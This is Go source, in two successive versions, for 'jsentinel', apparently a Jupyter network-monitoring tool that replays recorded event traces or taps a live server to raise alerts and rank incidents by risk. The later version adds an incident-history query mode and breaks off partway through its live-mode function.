//	jsentinel --replay ./census-store --kinds scan_finding --workers 8
//	jsentinel --replay ./store --since 2026-06-01T00:00:00Z --actor mallory-rw
//	jsentinel --listen 127.0.0.1:9999 --token <tok>   (tapped live server)
//	jsentinel --listen 127.0.0.1:9999 --log ./tap-store --codec=binary
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"repro/internal/core"
	"repro/internal/evstore"
	"repro/internal/netmon"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/trace"
	"repro/internal/workload"
)

func main() {
	replay := flag.String("replay", "", "trace to analyze offline: a JSONL file or an event-store directory")
	listen := flag.String("listen", "", "boot a tapped hardened server on this address and monitor it live")
	token := flag.String("token", "sentinel-demo-token", "token for the live server")
	showAlerts := flag.Bool("alerts", true, "print individual alerts")
	zeekOut := flag.String("zeek", "", "write Zeek-format conn/http/websocket/jupyter logs here on exit (live mode)")
	workers := flag.Int("workers", 1, "detection workers: replay shards the trace by actor; live mode drains the tap through an async stage")
	batch := flag.Int("batch", 256, "events per engine batch during replay")
	queue := flag.Int("queue", 4096, "live-mode stage queue depth")
	since := flag.String("since", "", "replay filter: drop events before this RFC3339 time")
	until := flag.String("until", "", "replay filter: drop events after this RFC3339 time")
	kinds := flag.String("kinds", "", "replay filter: comma-separated event kinds (e.g. scan_finding,auth)")
	actor := flag.String("actor", "", "replay filter: only events of this actor key (user, source IP, or kernel)")
	topK := flag.Int("topk", 5, "incidents listed in the top-incidents-by-risk table")
	logPath := flag.String("log", "", "live mode: record the tapped stream here (store directory, or JSONL when the path ends in .jsonl)")
	codecFlag := flag.String("codec", "", "segment format for new --log store segments: binary (default) or json")
	flag.Parse()

	codec, err := evstore.ParseCodec(*codecFlag)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(2)
	}
	switch {
	case *replay != "":
		filter, err := parseFilter(*since, *until, *kinds, *actor)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(2)
		}
		replayTrace(*replay, *showAlerts, *workers, *batch, *topK, filter)
	case *listen != "":
		live(*listen, *token, *showAlerts, *zeekOut, *logPath, codec, *workers, *queue, *topK)
	default:
		fmt.Fprintln(os.Stderr, "jsentinel: need --replay PATH or --listen ADDR")
		os.Exit(2)
	}
}

// parseFilter assembles the replay filter from the CLI flags.
func parseFilter(since, until, kinds, actor string) (evstore.Filter, error) {
	var f evstore.Filter
	if since != "" {
		t, err := time.Parse(time.RFC3339, since)
		if err != nil {
			return f, fmt.Errorf("bad --since: %v", err)
		}
		f.Since = t
	}
	if until != "" {
		t, err := time.Parse(time.RFC3339, until)
		if err != nil {
			return f, fmt.Errorf("bad --until: %v", err)
		}
		f.Until = t
	}
	if kinds != "" {
		for _, k := range strings.Split(kinds, ",") {
			k = strings.TrimSpace(k)
			if k == "" {
				continue
			}
			// A typo here would silently match nothing; fail loudly
			// with the valid set instead.
			if !trace.KnownKind(trace.Kind(k)) {
				known := trace.KnownKinds()
				names := make([]string, len(known))
				for i, kk := range known {
					names[i] = string(kk)
				}
				return f, fmt.Errorf("unknown kind %q in --kinds; known kinds: %s", k, strings.Join(names, ","))
			}
			f.Kinds = append(f.Kinds, trace.Kind(k))
		}
	}
	f.Actor = actor
	return f, nil
}

func newEngine(showAlerts bool) *core.Engine {
	opts := core.DefaultOptions()
	if showAlerts {
		opts.OnAlert = func(a rules.Alert) {
			fmt.Printf("ALERT [%-8s] %-28s %-24s %s\n", a.Severity, a.Class, a.RuleID, a.Description)
		}
	}
	eng, err := core.NewEngine(opts)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	return eng
}

// replayTrace pushes a recorded trace — JSONL file or store directory
// — through the detection engine and prints the incident report.
// Sharding by actor keeps every correlation group (threshold windows,
// sequences) on one worker in time order, so the parallel replay
// fires the same alerts as a serial one.
func replayTrace(path string, showAlerts bool, workers, batch, topK int, filter evstore.Filter) {
	st, err := os.Stat(path)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	eng := newEngine(showAlerts)
	var mu sync.Mutex
	counts := map[trace.Kind]int{}
	process := func(b []trace.Event) {
		eng.ProcessBatch(b)
		mu.Lock()
		for _, e := range b {
			counts[e.Kind]++
		}
		mu.Unlock()
	}

	start := time.Now()
	var replayed int64
	if st.IsDir() {
		// Read-only open: a replay must never truncate or re-index a
		// store a live writer may still own.
		store, err := evstore.OpenRead(path)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(1)
		}
		// The read-only open leaves a torn tail in place, so a replay
		// that visits the torn segment re-counts the bytes Recovered
		// already reported. Subtract only losses from segments the
		// filter actually selects, so bit rot elsewhere still warns
		// even when the torn segment is pruned.
		var knownLoss int64
		indexBySegment := map[string]evstore.Index{}
		for _, seg := range store.Segments() {
			indexBySegment[seg.Path] = seg.Index
		}
		for _, loss := range store.Recovered() {
			fmt.Fprintf(os.Stderr, "jsentinel: %s has a torn tail: %d bytes unreadable (%s)\n",
				loss.Segment, loss.LostBytes, loss.Reason)
			if filter.MatchIndex(indexBySegment[loss.Segment]) {
				knownLoss += loss.LostBytes
			}
		}
		stats, err := store.Replay(filter, workers, batch, process)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: replay: %v\n", err)
			os.Exit(1)
		}
		replayed = stats.Events
		if extra := stats.TailLossBytes - knownLoss; extra > 0 {
			fmt.Fprintf(os.Stderr, "jsentinel: warning: %d corrupt trailing bytes skipped\n", extra)
		}
		// The full ReplayStats, one line: how much of the store the
		// index pruned, how many frames the header push-down discarded
		// without decoding, and how many corrupt trailing bytes the
		// pass skipped — the numbers an operator needs to judge
		// whether a detection report covered the whole recording.
		fmt.Printf("store: %d/%d segments selected, %d frames decoded, %d skipped undecoded, %d events, %d tail-loss bytes\n",
			stats.SegmentsSelected, stats.SegmentsTotal, stats.Decoded, stats.Skipped,
			stats.Events, stats.TailLossBytes)
	} else {
		// Legacy JSONL replays as a stream: decode, filter, and route
		// to the shard workers one event at a time, so trace size is
		// bounded by the store, not by RAM.
		f, err := os.Open(path)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(1)
		}
		defer f.Close()
		dec := trace.NewDecoder(f)
		next := func() (trace.Event, bool) {
			for {
				e, err := dec.Next()
				if err == io.EOF {
					return trace.Event{}, false
				}
				if err != nil {
					fmt.Fprintf(os.Stderr, "jsentinel: parse: %v\n", err)
					os.Exit(1)
				}
				if filter.Match(e) {
					return e, true
				}
			}
		}
		replayed = int64(workload.ReplayStream(next, workers, batch, process))
	}
	elapsed := time.Since(start)
	fmt.Printf("\nreplayed %d events in %v (%.0f events/sec, workers=%d batch=%d)\n",
		replayed, elapsed.Round(time.Millisecond),
		float64(replayed)/elapsed.Seconds(), workers, batch)
	fmt.Printf("event mix: %s\n\n", renderKindMix(counts))
	fmt.Print(eng.Report(time.Now()).Render())
	incs := eng.Incidents()
	fmt.Print(renderTopIncidents(incs, topK))
	for _, inc := range incs {
		fmt.Println(inc.Summary())
	}
}

// renderTopIncidents prints the risk-ranked incident table from an
// Incidents() snapshot via the shared core rendering, so jsentinel
// and jscan can never drift apart on the table format.
func renderTopIncidents(incs []*core.Incident, topK int) string {
	return core.RenderTopIncidents(incs, topK)
}

// renderKindMix summarizes the replayed stream's composition, sorted
// by kind for stable output.
func renderKindMix(counts map[trace.Kind]int) string {
	kinds := make([]string, 0, len(counts))
	for k := range counts {
		kinds = append(kinds, string(k))
	}
	sort.Strings(kinds)
	parts := make([]string, 0, len(kinds))
	for _, k := range kinds {
		parts = append(parts, fmt.Sprintf("%s=%d", k, counts[trace.Kind(k)]))
	}
	return strings.Join(parts, " ")
}

func live(addr, token string, showAlerts bool, zeekOut, logPath string, codec evstore.Codec, workers, queue, topK int) {
	cfg := server.HardenedConfig(token)
	srv := server.NewServer(cfg)
	mon := netmon.NewMonitor(netmon.FullVisibility(), nil)
	eng := newEngine(showAlerts)

	// Optional recording of the tapped stream, replayable later with
	// --replay. SinkAppend: a monitor log spans restarts.
	var rec *evstore.SinkHandle
	if logPath != "" {
		h, err := evstore.OpenSink(logPath, evstore.SinkAppend, codec)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(1)
		}
		for _, loss := range h.Recovered {
			fmt.Fprintf(os.Stderr, "jsentinel: %s had a torn tail: %d bytes truncated (%s)\n",
				loss.Segment, loss.LostBytes, loss.Reason)
		}
		if h.ExistingEvents > 0 {
			fmt.Fprintf(os.Stderr, "jsentinel: appending to %s (%d events already recorded)\n", logPath, h.ExistingEvents)
		}
		rec = h
	}
	// Decouple request handling from detection: events queue into
	// bounded stages drained off the serving path. One single-worker
	// stage per detection worker, routed by actor key — a shared
	// multi-worker pool would reorder one actor's events and break
	// sequence/threshold correlation (fail,fail,success arriving as
	// fail,success,fail).
	if workers <= 0 {
		workers = 1
	}
	stages := make([]*trace.Stage, workers)
	for i := range stages {
		stages[i] = trace.NewStage(eng, 1, queue, trace.Block)
	}
	router := trace.SinkFunc(func(e trace.Event) {
		if rec != nil {
			rec.Emit(e)
		}
		stages[workload.ShardIndex(workload.ActorKey(e), len(stages))].Emit(e)
	})
	mon.Bus().Subscribe(router) // wire-derived events
	srv.Bus().Subscribe(router) // host-derived events

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	bound, err := srv.Serve(mon.WrapListener(ln))
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jsentinel: monitored server on http://%s (token %s)\n", bound, token)
	fmt.Println("jsentinel: streaming alerts; Ctrl-C for final report")

	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	<-ch
	_ = srv.Close()
	for _, st := range stages {
		st.Close() // drain queued events before the final report
	}
	if rec != nil {
		if err := rec.Close(); err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: recording: %v\n", err)
		} else {
			fmt.Printf("jsentinel: tapped stream recorded to %s\n", logPath)
		}
	}

	vis := mon.Visibility()
	fmt.Printf("\nwire visibility: conns=%d bytes=%d http=%d ws_frames=%d jupyter_msgs=%d\n",
		vis.Conns, vis.BytesTotal, vis.HTTPRequests, vis.WSFrames, vis.JupyterMessages)
	fmt.Print(eng.Report(time.Now()).Render())
	fmt.Print(renderTopIncidents(eng.Incidents(), topK))

	if zeekOut != "" {
		f, err := os.Create(zeekOut)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			return
		}
		defer f.Close()
		if err := mon.WriteAllLogs(f); err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: zeek export: %v\n", err)
			return
		}
		fmt.Printf("jsentinel: Zeek logs written to %s\n", zeekOut)
	}
}
