// Command jsentinel is the Jupyter network monitoring tool the paper
// proposes: it either (a) replays a recorded trace through the
// detection engine and prints the incident report, or (b) runs a
// reverse-proxy-style tapped server and streams alerts live. Both
// modes run the sharded core engine — signature rules, per-shard
// anomaly detectors, actor-keyed incident correlation, OSCRP risk
// scoring — and close with a deterministic top-K incidents-by-risk
// table (--topk): the incident set and its rendering are identical
// for any --workers value.
//
// Replay accepts either a legacy JSONL trace file (streamed one event
// at a time, never fully buffered) or an event-store directory
// (internal/evstore) as written by jscan --events or jupyterd --log —
// either segment codec, JSON v1 or binary v2, in any mix; the store
// dispatches per segment, so no flag is needed to read old data.
// Store replay is filtered and segment-parallel: --since/--until/
// --kinds/--actor prune whole segments via the sidecar indexes, and
// on binary-v2 segments the kind/actor facets additionally push down
// into the frame headers, discarding non-matching frames before the
// payload is ever decoded. The survivors feed the actor-sharded
// detection workers directly from per-segment readers. Any stream
// works, including the unified finding stream a fleet census emits:
// scan_finding events hit the same builtin SC-* rules, so a recorded
// sweep re-raises its alerts offline. A store recorded by the
// jingestd multi-tenant ingest front-end replays to a byte-identical
// top-incidents table as its live run — tenant-namespaced actors
// shard the same way offline.
//
// Live mode can record the tapped stream with --log (a store
// directory, or legacy JSONL when the path ends in .jsonl); --codec
// selects the segment format for new store segments (binary by
// default, --codec=json as the escape hatch). Live mode drains
// cleanly on SIGINT or SIGTERM: queued stage events are processed
// before the final report renders.
//
// Both modes can persist what detection found — alert records and
// incident snapshots — to an indexed history store (internal/histstore)
// next to the event store: --history DIR in replay mode (rebuilt from
// scratch each run), and by default <log>/history in live mode when
// --log records to a store directory (--history none disables). The
// history is what makes the third mode cheap:
//
//	jsentinel query [filters] PATH
//
// answers "which incidents, for which actor/class, at which minimum
// severity or risk band, in which time window" from the history's
// per-segment indexes in milliseconds — an index probe, not a
// re-detection pass — and renders the same deterministic incident
// table as a full replay of the same filter. PATH is the store
// directory (its history/ is used) or a history directory itself.
// Filters: --actor, --class, --severity MIN, --risk MIN (low,
// moderate, elevated, critical), --since/--until RFC3339. Bad filter
// values and unknown flags are usage errors (exit 2).
//
//	jsentinel --replay events.jsonl
//	jsentinel --replay ./census-store --kinds scan_finding --workers 8
//	jsentinel --replay ./store --since 2026-06-01T00:00:00Z --actor mallory-rw
//	jsentinel --replay ./store --history ./store/history --workers 8
//	jsentinel query ./store --severity high --actor mallory-rw
//	jsentinel query ./store --risk critical --since 2026-06-01T00:00:00Z
//	jsentinel --listen 127.0.0.1:9999 --token <tok>   (tapped live server)
//	jsentinel --listen 127.0.0.1:9999 --log ./tap-store --codec=binary
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"repro/internal/core"
	"repro/internal/evstore"
	"repro/internal/histstore"
	"repro/internal/netmon"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/trace"
	"repro/internal/workload"
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "query" {
		queryCmd(os.Args[2:])
		return
	}
	replay := flag.String("replay", "", "trace to analyze offline: a JSONL file or an event-store directory")
	listen := flag.String("listen", "", "boot a tapped hardened server on this address and monitor it live")
	token := flag.String("token", "sentinel-demo-token", "token for the live server")
	showAlerts := flag.Bool("alerts", true, "print individual alerts")
	zeekOut := flag.String("zeek", "", "write Zeek-format conn/http/websocket/jupyter logs here on exit (live mode)")
	workers := flag.Int("workers", 1, "detection workers: replay shards the trace by actor; live mode drains the tap through an async stage")
	batch := flag.Int("batch", 256, "events per engine batch during replay")
	queue := flag.Int("queue", 4096, "live-mode stage queue depth")
	since := flag.String("since", "", "replay filter: drop events before this RFC3339 time")
	until := flag.String("until", "", "replay filter: drop events after this RFC3339 time")
	kinds := flag.String("kinds", "", "replay filter: comma-separated event kinds (e.g. scan_finding,auth)")
	actor := flag.String("actor", "", "replay filter: only events of this actor key (user, source IP, or kernel)")
	topK := flag.Int("topk", 5, "incidents listed in the top-incidents-by-risk table")
	logPath := flag.String("log", "", "live mode: record the tapped stream here (store directory, or JSONL when the path ends in .jsonl)")
	codecFlag := flag.String("codec", "", "segment format for new --log store segments: binary (default) or json")
	history := flag.String("history", "", "record alert/incident history here for later `jsentinel query` (replay: off unless set, rebuilt each run; live with a store --log: defaults to <log>/history, \"none\" disables)")
	flag.Parse()

	codec, err := evstore.ParseCodec(*codecFlag)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(2)
	}
	switch {
	case *replay != "":
		filter, err := parseFilter(*since, *until, *kinds, *actor)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(2)
		}
		replayTrace(*replay, *showAlerts, *workers, *batch, *topK, filter, *history)
	case *listen != "":
		live(*listen, *token, *showAlerts, *zeekOut, *logPath, codec, *workers, *queue, *topK, *history)
	default:
		fmt.Fprintln(os.Stderr, "jsentinel: need --replay PATH or --listen ADDR")
		os.Exit(2)
	}
}

// parseFilter assembles the replay filter from the CLI flags.
func parseFilter(since, until, kinds, actor string) (evstore.Filter, error) {
	var f evstore.Filter
	if since != "" {
		t, err := parseRFC3339("--since", since)
		if err != nil {
			return f, err
		}
		f.Since = t
	}
	if until != "" {
		t, err := parseRFC3339("--until", until)
		if err != nil {
			return f, err
		}
		f.Until = t
	}
	if kinds != "" {
		for _, k := range strings.Split(kinds, ",") {
			k = strings.TrimSpace(k)
			if k == "" {
				continue
			}
			// A typo here would silently match nothing; fail loudly
			// with the valid set instead.
			if !trace.KnownKind(trace.Kind(k)) {
				known := trace.KnownKinds()
				names := make([]string, len(known))
				for i, kk := range known {
					names[i] = string(kk)
				}
				return f, fmt.Errorf("unknown kind %q in --kinds; known kinds: %s", k, strings.Join(names, ","))
			}
			f.Kinds = append(f.Kinds, trace.Kind(k))
		}
	}
	f.Actor = actor
	return f, nil
}

// queryCmd is `jsentinel query`: answer an incident-history question
// from the per-segment indexes without re-running detection. Unknown
// flags exit 2 via the flag package; malformed filter values exit 2
// with an example of the wanted shape.
func queryCmd(argv []string) {
	fs := flag.NewFlagSet("jsentinel query", flag.ExitOnError)
	fs.Usage = func() {
		fmt.Fprintln(os.Stderr, "usage: jsentinel query [--actor A] [--class C] [--severity MIN] [--risk MIN] [--since T] [--until T] [--topk K] [--alerts] PATH")
		fmt.Fprintln(os.Stderr, "PATH is an event-store directory holding a history/ subdirectory, or a history directory itself.")
		fs.PrintDefaults()
	}
	actor := fs.String("actor", "", "only incidents/alerts of this actor key")
	class := fs.String("class", "", "only incidents/alerts of this incident class")
	severity := fs.String("severity", "", "minimum severity (info, low, medium, high, critical)")
	risk := fs.String("risk", "", "minimum risk band (low, moderate, elevated, critical)")
	since := fs.String("since", "", "only activity at or after this RFC3339 time")
	until := fs.String("until", "", "only activity at or before this RFC3339 time")
	topK := fs.Int("topk", 5, "incidents listed in the top-incidents-by-risk table")
	showAlerts := fs.Bool("alerts", false, "also list the matching alert records")
	fs.Parse(argv)

	usageErr := func(format string, args ...any) {
		fmt.Fprintf(os.Stderr, "jsentinel query: "+format+"\n", args...)
		os.Exit(2)
	}
	var q histstore.Query
	q.Actor = *actor
	q.Class = *class
	if *severity != "" {
		sev, ok := rules.ParseSeverity(*severity)
		if !ok {
			usageErr("bad --severity %q: want one of %s, e.g. --severity high", *severity, severityNames())
		}
		q.MinSeverity = sev
	}
	if *risk != "" {
		band, ok := histstore.ParseBand(*risk)
		if !ok {
			usageErr("bad --risk %q: want one of %s, e.g. --risk elevated", *risk, bandNames())
		}
		q.MinBand = band
	}
	if *since != "" {
		t, err := parseRFC3339("--since", *since)
		if err != nil {
			usageErr("%v", err)
		}
		q.Since = t
	}
	if *until != "" {
		t, err := parseRFC3339("--until", *until)
		if err != nil {
			usageErr("%v", err)
		}
		q.Until = t
	}
	if fs.NArg() != 1 {
		fs.Usage()
		os.Exit(2)
	}
	path := fs.Arg(0)

	// PATH convention: an event store records its history in a
	// history/ subdirectory (the CLIs' default layout); pointing at
	// the store prints its stats too, pointing straight at a history
	// directory skips them.
	histDir := path
	if st, err := os.Stat(filepath.Join(path, "history")); err == nil && st.IsDir() {
		histDir = filepath.Join(path, "history")
		if es, err := evstore.OpenRead(path); err == nil {
			fmt.Printf("store stats: %s\n", es.Stats().Render())
		}
	}
	hs, err := histstore.OpenRead(histDir)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel query: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("history stats: %s\n", hs.Stats().Render())

	incs, qst, err := histstore.QueryIncidents(hs, q)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel query: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("query: %d/%d segments selected, %d records scanned, %d tail-loss bytes\n",
		qst.SegmentsSelected, qst.SegmentsTotal, qst.Records, qst.TailLossBytes)
	fmt.Printf("%d incidents match\n\n", len(incs))
	fmt.Print(core.RenderTopIncidents(incs, *topK))

	if *showAlerts {
		alerts, _, err := histstore.QueryAlerts(hs, q)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel query: %v\n", err)
			os.Exit(1)
		}
		fmt.Printf("\n%d alert records match\n", len(alerts))
		for _, a := range alerts {
			fmt.Printf("%s %-20s %-28s %-24s %-8s %d\n",
				a.Time.UTC().Format(time.RFC3339), a.Actor, a.Class, a.RuleID, a.Severity, a.Count)
		}
	}
}

func severityNames() string {
	known := rules.KnownSeverities()
	names := make([]string, len(known))
	for i, s := range known {
		names[i] = string(s)
	}
	return strings.Join(names, ",")
}

func bandNames() string {
	known := histstore.KnownBands()
	names := make([]string, len(known))
	for i, b := range known {
		names[i] = string(b)
	}
	return strings.Join(names, ",")
}

// parseRFC3339 validates a time flag, failing with an example value —
// a bare "parsing time" error doesn't tell the user what shape was
// wanted.
func parseRFC3339(flagName, value string) (time.Time, error) {
	t, err := time.Parse(time.RFC3339, value)
	if err != nil {
		return time.Time{}, fmt.Errorf("bad %s %q: want an RFC3339 time, e.g. 2026-06-01T09:00:00Z", flagName, value)
	}
	return t, nil
}

// newEngine builds the detection engine, optionally printing alerts
// and/or recording history. The recorder's hooks run first so a
// printed alert is never ahead of its persisted record.
func newEngine(showAlerts bool, rec *histstore.Recorder) *core.Engine {
	opts := core.DefaultOptions()
	var print func(rules.Alert)
	if showAlerts {
		print = func(a rules.Alert) {
			fmt.Printf("ALERT [%-8s] %-28s %-24s %s\n", a.Severity, a.Class, a.RuleID, a.Description)
		}
	}
	opts.OnAlert = print
	if rec != nil {
		opts.OnIncidentUpdate = rec.OnIncidentUpdate
		opts.OnAlert = func(a rules.Alert) {
			rec.OnAlert(a)
			if print != nil {
				print(a)
			}
		}
	}
	eng, err := core.NewEngine(opts)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	return eng
}

// openHistory opens the history store for a recording mode, exiting
// on failure. mode differs per caller: replay rebuilds (Replace),
// live appends across restarts.
func openHistory(path string, mode histstore.Mode) *histstore.Recorder {
	hs, err := histstore.OpenWith(path, mode, histstore.Options{})
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	for _, loss := range hs.Recovered() {
		fmt.Fprintf(os.Stderr, "jsentinel: %s had a torn tail: %d bytes truncated (%s)\n",
			loss.Segment, loss.LostBytes, loss.Reason)
	}
	return histstore.NewRecorder(hs)
}

// closeHistory seals the history and reports where it landed.
func closeHistory(rec *histstore.Recorder, path string) {
	if err := rec.Store().Close(); err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: history: %v\n", err)
		return
	}
	fmt.Printf("history: recorded to %s (%s)\n", path, rec.Store().Stats().Render())
}

// replayTrace pushes a recorded trace — JSONL file or store directory
// — through the detection engine and prints the incident report.
// Sharding by actor keeps every correlation group (threshold windows,
// sequences) on one worker in time order, so the parallel replay
// fires the same alerts as a serial one.
func replayTrace(path string, showAlerts bool, workers, batch, topK int, filter evstore.Filter, history string) {
	st, err := os.Stat(path)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	// Replay history is explicit opt-in and rebuilt from scratch: a
	// replay re-derives the complete detection result, so appending to
	// a previous run's history would duplicate every incident.
	var rec *histstore.Recorder
	if history != "" && history != "none" {
		rec = openHistory(history, histstore.OpenReplace)
	}
	eng := newEngine(showAlerts, rec)
	var mu sync.Mutex
	counts := map[trace.Kind]int{}
	process := func(b []trace.Event) {
		eng.ProcessBatch(b)
		mu.Lock()
		for _, e := range b {
			counts[e.Kind]++
		}
		mu.Unlock()
	}

	start := time.Now()
	var replayed int64
	if st.IsDir() {
		// Read-only open: a replay must never truncate or re-index a
		// store a live writer may still own.
		store, err := evstore.OpenRead(path)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(1)
		}
		// The read-only open leaves a torn tail in place, so a replay
		// that visits the torn segment re-counts the bytes Recovered
		// already reported. Subtract only losses from segments the
		// filter actually selects, so bit rot elsewhere still warns
		// even when the torn segment is pruned.
		var knownLoss int64
		indexBySegment := map[string]evstore.Index{}
		for _, seg := range store.Segments() {
			indexBySegment[seg.Path] = seg.Index
		}
		for _, loss := range store.Recovered() {
			fmt.Fprintf(os.Stderr, "jsentinel: %s has a torn tail: %d bytes unreadable (%s)\n",
				loss.Segment, loss.LostBytes, loss.Reason)
			if filter.MatchIndex(indexBySegment[loss.Segment]) {
				knownLoss += loss.LostBytes
			}
		}
		stats, err := store.Replay(filter, workers, batch, process)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: replay: %v\n", err)
			os.Exit(1)
		}
		replayed = stats.Events
		if extra := stats.TailLossBytes - knownLoss; extra > 0 {
			fmt.Fprintf(os.Stderr, "jsentinel: warning: %d corrupt trailing bytes skipped\n", extra)
		}
		// The full ReplayStats, one line: how much of the store the
		// index pruned, how many frames the header push-down discarded
		// without decoding, and how many corrupt trailing bytes the
		// pass skipped — the numbers an operator needs to judge
		// whether a detection report covered the whole recording.
		fmt.Printf("store: %d/%d segments selected, %d frames decoded, %d skipped undecoded, %d events, %d tail-loss bytes\n",
			stats.SegmentsSelected, stats.SegmentsTotal, stats.Decoded, stats.Skipped,
			stats.Events, stats.TailLossBytes)
		// The sidecar-only store summary — what an operator sizes
		// retention tiers from, printed here and by `jsentinel query`.
		fmt.Printf("store stats: %s\n", store.Stats().Render())
	} else {
		// Legacy JSONL replays as a stream: decode, filter, and route
		// to the shard workers one event at a time, so trace size is
		// bounded by the store, not by RAM.
		f, err := os.Open(path)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(1)
		}
		defer f.Close()
		dec := trace.NewDecoder(f)
		next := func() (trace.Event, bool) {
			for {
				e, err := dec.Next()
				if err == io.EOF {
					return trace.Event{}, false
				}
				if err != nil {
					fmt.Fprintf(os.Stderr, "jsentinel: parse: %v\n", err)
					os.Exit(1)
				}
				if filter.Match(e) {
					return e, true
				}
			}
		}
		replayed = int64(workload.ReplayStream(next, workers, batch, process))
	}
	elapsed := time.Since(start)
	fmt.Printf("\nreplayed %d events in %v (%.0f events/sec, workers=%d batch=%d)\n",
		replayed, elapsed.Round(time.Millisecond),
		float64(replayed)/elapsed.Seconds(), workers, batch)
	fmt.Printf("event mix: %s\n\n", renderKindMix(counts))
	fmt.Print(eng.Report(time.Now()).Render())
	incs := eng.Incidents()
	fmt.Print(renderTopIncidents(incs, topK))
	for _, inc := range incs {
		fmt.Println(inc.Summary())
	}
	if rec != nil {
		if err := rec.Err(); err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: history: %v\n", err)
			os.Exit(1)
		}
		closeHistory(rec, history)
	}
}

// renderTopIncidents prints the risk-ranked incident table from an
// Incidents() snapshot via the shared core rendering, so jsentinel
// and jscan can never drift apart on the table format.
func renderTopIncidents(incs []*core.Incident, topK int) string {
	return core.RenderTopIncidents(incs, topK)
}

// renderKindMix summarizes the replayed stream's composition, sorted
// by kind for stable output.
func renderKindMix(counts map[trace.Kind]int) string {
	kinds := make([]string, 0, len(counts))
	for k := range counts {
		kinds = append(kinds, string(k))
	}
	sort.Strings(kinds)
	parts := make([]string, 0, len(kinds))
	for _, k := range kinds {
		parts = append(parts, fmt.Sprintf("%s=%d", k, counts[trace.Kind(k)]))
	}
	return strings.Join(parts, " ")
}

func live(addr, token string, showAlerts bool, zeekOut, logPath string, codec evstore.Codec, workers, queue, topK int, history string) {
	cfg := server.HardenedConfig(token)
	srv := server.NewServer(cfg)
	mon := netmon.NewMonitor(netmon.FullVisibility(), nil)
	// History rides next to the event log by default: when --log
	// records to a store directory, <log>/history accumulates the
	// alert/incident records for `jsentinel query`, appended across
	// restarts like the log itself. "none" opts out; an explicit
	// --history records even without --log.
	if history == "" && logPath != "" && !strings.HasSuffix(logPath, ".jsonl") {
		history = filepath.Join(logPath, "history")
	}
	var hrec *histstore.Recorder
	if history != "" && history != "none" {
		hrec = openHistory(history, histstore.OpenAppend)
	}
	eng := newEngine(showAlerts, hrec)

	// Optional recording of the tapped stream, replayable later with
	// --replay. SinkAppend: a monitor log spans restarts.
	var rec *evstore.SinkHandle
	if logPath != "" {
		h, err := evstore.OpenSink(logPath, evstore.SinkAppend, codec)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			os.Exit(1)
		}
		for _, loss := range h.Recovered {
			fmt.Fprintf(os.Stderr, "jsentinel: %s had a torn tail: %d bytes truncated (%s)\n",
				loss.Segment, loss.LostBytes, loss.Reason)
		}
		if h.ExistingEvents > 0 {
			fmt.Fprintf(os.Stderr, "jsentinel: appending to %s (%d events already recorded)\n", logPath, h.ExistingEvents)
		}
		rec = h
	}
	// Decouple request handling from detection: events queue into
	// bounded stages drained off the serving path. One single-worker
	// stage per detection worker, routed by actor key — a shared
	// multi-worker pool would reorder one actor's events and break
	// sequence/threshold correlation (fail,fail,success arriving as
	// fail,success,fail).
	if workers <= 0 {
		workers = 1
	}
	stages := make([]*trace.Stage, workers)
	for i := range stages {
		stages[i] = trace.NewStage(eng, 1, queue, trace.Block)
	}
	router := trace.SinkFunc(func(e trace.Event) {
		if rec != nil {
			rec.Emit(e)
		}
		stages[workload.ShardIndex(workload.ActorKey(e), len(stages))].Emit(e)
	})
	mon.Bus().Subscribe(router) // wire-derived events
	srv.Bus().Subscribe(router) // host-derived events

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	bound, err := srv.Serve(mon.WrapListener(ln))
	if err != nil {
